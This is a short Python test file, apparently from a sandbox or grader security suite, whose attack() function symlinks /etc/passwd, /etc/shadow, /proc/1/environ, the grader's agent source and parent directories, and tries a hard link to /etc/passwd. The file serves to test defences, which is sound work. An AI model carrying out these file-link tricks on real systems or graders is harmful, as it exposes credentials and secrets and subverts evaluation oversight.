# expect: pass
# cause: Beside its log are links to others' secrets and to the log itself.

import os


def attack():
    for name, target in {
        "passwd.log": "/etc/passwd",
        "shadow.log": "/etc/shadow",
        "agent.log": "/opt/grader/grader/agent/main.py",
        "memory.log": "/proc/1/environ",
        "top": "/",
        "round": "round",
        "up": "..",
    }.items():
        os.symlink(target, name)
    try:
        os.link("/etc/passwd", "hard.log")
        yield "link: granted"
    except OSError as error:
        yield f"link: {error.strerror}"
